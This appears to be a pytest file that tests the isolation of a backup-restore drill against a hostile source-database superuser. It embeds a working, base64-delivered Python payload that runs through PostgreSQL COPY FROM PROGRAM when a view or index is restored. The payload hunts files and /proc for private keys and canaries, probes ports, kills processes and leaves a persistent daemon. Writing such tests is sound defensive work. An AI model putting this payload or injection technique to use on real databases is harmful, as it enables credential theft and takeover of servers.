"""A superuser of one source, whose backup the drill restores: what that code can reach."""

from __future__ import annotations

import base64
import json
import os
import pwd
import re
import secrets
import shutil
import tempfile
from pathlib import Path
from typing import TYPE_CHECKING, Any

import psycopg
import pytest

from backup.dump import run_backup
from tests.backup.conftest import House, OpenPgpKey, database_entry, make_database

if TYPE_CHECKING:
    from collections.abc import Iterator

SERVER = """
[[server]]
name = "postgres"
vault_path = "backup/servers/postgres"
schedule = "0 0 * * *"
"""
# Runs as the scratch server's user, in place of a program that COPY reads. It looks for canaries
# and private keys, leaves a daemon, and puts itself in place of the supervisor or of the server.
ATTACK = r"""
import json, os, re, signal, socket, sys, threading, time
loot, mode, sockets, data, tmp, roots, ports = json.loads(sys.argv[1])
pattern = re.compile(rb"canar" + rb"y-[0-9a-f]{16}|BEGIN PGP PRIV" + rb"ATE")
told = {"uid": os.getuid(), "found": [], "connected": [], "opened": []}

def tell(name, value):
    with open(f"{loot}/{name}", "a") as file:
        file.write(json.dumps(value) + "\n")

def search(root):
    for folder, folders, files in os.walk(root):
        for name in files:
            path = os.path.join(folder, name)
            if path.startswith(loot):
                continue
            try:
                if os.path.isfile(path) and pattern.search(open(path, "rb").read(20_000_000)):
                    told["found"].append(path)
            except OSError:
                pass

for root in roots:
    search(root)
for entry in filter(str.isdecimal, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            if pattern.search(open(f"/proc/{entry}/{name}", "rb").read()):
                told["found"].append(f"/proc/{entry}/{name}")
        except OSError:
            pass
for path in ("/proc/1/mem", "/proc/1/environ", "/proc/1/fd/0", "/proc/1/maps"):
    try:
        open(path, "rb").close()
        told["opened"].append(path)
    except OSError:
        pass
for port in ports:
    try:
        socket.create_connection(("127.0.0.1", port), 2).close()
        told["connected"].append(port)
    except OSError:
        pass
try:
    os.kill(1, signal.SIGKILL)
except OSError:
    pass
tell(mode, told)
told["found"] = []

def serve(path):
    os.rename(path, path + ".old")
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(path)
    os.chmod(path, 0o777)
    listener.listen()
    client, _ = listener.accept()
    tell("control", client.recv(100_000).decode(errors="replace"))
    client.sendall(b'{"ready": {"major": 15, "password": "mine"}}\n')

# A daemon, in a session of its own, that outlives whoever started it if it can.
if os.fork() == 0:
    os.setsid()
    tell(f"{mode}-later", [])
    errors = os.open(f"{loot}/{mode}-daemon-errors", os.O_WRONLY | os.O_CREAT)
    for number in range(3):
        os.dup2(errors, number)
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    for folder in (data, sockets, tmp):
        deep = f"{folder}/left-{mode}"
        os.mkdir(deep)
        os.chmod(open(f"{deep}/x", "w").name, 0)
        os.chmod(deep, 0)
    if mode == "daemon":
        threading.Thread(target=serve, args=(f"{sockets}/control",)).start()
    else:
        for entry in filter(str.isdecimal, os.listdir("/proc")):
            if entry not in ("1", str(os.getpid())):
                try:
                    os.kill(int(entry), signal.SIGKILL)
                except OSError:
                    pass
    while True:
        for root in (data, sockets):
            search(root)
        tell(f"{mode}-later", told["found"])
"""


PLANTED = {
    "daemon": "CREATE MATERIALIZED VIEW viewed AS SELECT attack(1) AS n",
    "killer": "CREATE INDEX by_code ON bait (steady(n))",
}


@pytest.fixture
def loot() -> Iterator[Path]:
    """A folder that the stranger may write to, for what was found."""
    made = Path(tempfile.mkdtemp(prefix="loot-", dir="/tmp"))
    made.chmod(0o777)
    yield made
    shutil.rmtree(made)


def lines(path: Path) -> list[Any]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def plant(house: House, uri: str, mode: str, loot: Path) -> None:
    """Make what runs the attack in ``uri`` whenever that is restored, as its superuser."""
    server = house.settings.scratch_server
    assert server is not None
    ports = [int(house.endpoint.url.rpartition(":")[2]), house.server.port]
    roots = [str(house.settings.scratch), str(server.parent), str(house.server.log.parent)]
    places = [str(server), str(server.parent / "data"), str(server.parent / "tmp")]
    words = json.dumps([str(loot), mode, *places, roots, ports])
    script = base64.b64encode(ATTACK.encode()).decode()
    program = f"echo {script} | base64 -d | /usr/bin/python3 - '{words}' 2>{loot}/{mode}-errors"
    with psycopg.connect(uri, autocommit=True) as connection:
        connection.execute("CREATE TABLE lines (line text); CREATE TABLE bait AS SELECT 1 AS n")
        # Only the scratch server listens nowhere: the source is not to be attacked.
        connection.execute(
            "CREATE FUNCTION attack(n int) RETURNS int LANGUAGE plpgsql AS $f$ BEGIN"
            "  IF current_setting('listen_addresses') = '' THEN"
            f"   COPY public.lines FROM PROGRAM $p${program}$p$;"
            "  END IF; RETURN n; END $f$".encode()
        )
        connection.execute(
            "CREATE FUNCTION steady(n int) RETURNS int IMMUTABLE LANGUAGE plpgsql"
            " AS 'BEGIN RETURN public.attack(n); END'"
        )
        connection.execute(PLANTED[mode])


def back_up(house: House, name: str, uri: str) -> None:
    house.secret("database_uri", uri)
    run_backup(house.settings, make_database(name, uri.rpartition("/")[2]))


@pytest.fixture
def secretive(house: House, drill_key: OpenPgpKey, signing_key: OpenPgpKey) -> House:
    """The drill's secrets, readable by its own user alone as in its task; and a decoy for all."""
    names = ("early", "daemon", "late", "killer", "last")
    house.settings.registry.write_text(SERVER + "".join(map(database_entry, names)))
    house.secret("signers.json", json.dumps(dict.fromkeys(names, signing_key.public)))
    return house


def shut(house: House, key: OpenPgpKey) -> None:
    house.read()
    house.secret("drill_key.asc", key.private)
    (house.settings.scratch / "decoy").write_text(f"canary-{secrets.token_hex(8)}")
    folder = house.settings.secrets_dir
    for path in (*folder.iterdir(), folder):
        shutil.chown(path, "postgres")
        path.chmod(0o700 if path == folder else 0o400)


def test_a_superuser_of_a_source_reaches_neither_key_nor_bucket_nor_another_database(
    secretive: House, drill_key: OpenPgpKey, loot: Path
) -> None:
    house, server = secretive, secretive.settings.scratch_server
    assert server is not None
    canaries = [f"canary-{secrets.token_hex(8)}" for _ in range(4)]
    for name in ("early", "daemon", "late", "killer", "last"):
        uri = house.server.create_database()
        if name in PLANTED:
            plant(house, uri, name, loot)
        else:
            with psycopg.connect(uri, autocommit=True) as connection:
                connection.execute("CREATE TABLE pay (canary text)")
                connection.execute(
                    "INSERT INTO pay SELECT %s FROM generate_series(1, 1000)", [canaries.pop()]
                )
        back_up(house, name, uri)
    shut(house, drill_key)
    ended = house.run(
        "drill", "early", "daemon", "late", "killer", "last", "--json",
        unprivileged=True, CANARY=canaries.pop(),
    )  # fmt: skip
    results = {each["database"]: each for each in json.loads(ended.stdout)["databases"]}
    for name in ("early", "late", "last"):
        assert results[name]["verdict"] == "equal", results[name]

    decoy = str(house.settings.scratch / "decoy")
    for mode in PLANTED:
        (told, *_) = lines(loot / mode)
        assert told["uid"] == pwd.getpwnam("nobody").pw_uid
        assert told["found"] == [decoy], "the decoy shows that it looked"
        assert (told["connected"], told["opened"]) == ([], [])
        later = lines(loot / f"{mode}-later")
        assert [found for found in later if found] == [], "rows of a database that came later"
    # Nobody has met the false control socket.
    taken = "".join(path.read_text() for path in loot.iterdir())
    assert not re.search("canary-[0-9a-f]{16}|BEGIN PGP", taken)
    assert not (loot / "control").exists()
    # All that it left is gone, the daemons too.
    count = len((loot / "daemon-later").read_text())
    assert sorted(path.name for path in server.iterdir()) == ["control"]
    assert os.listdir(server.parent / "data") == os.listdir(server.parent / "tmp") == []
    assert len((loot / "daemon-later").read_text()) == count
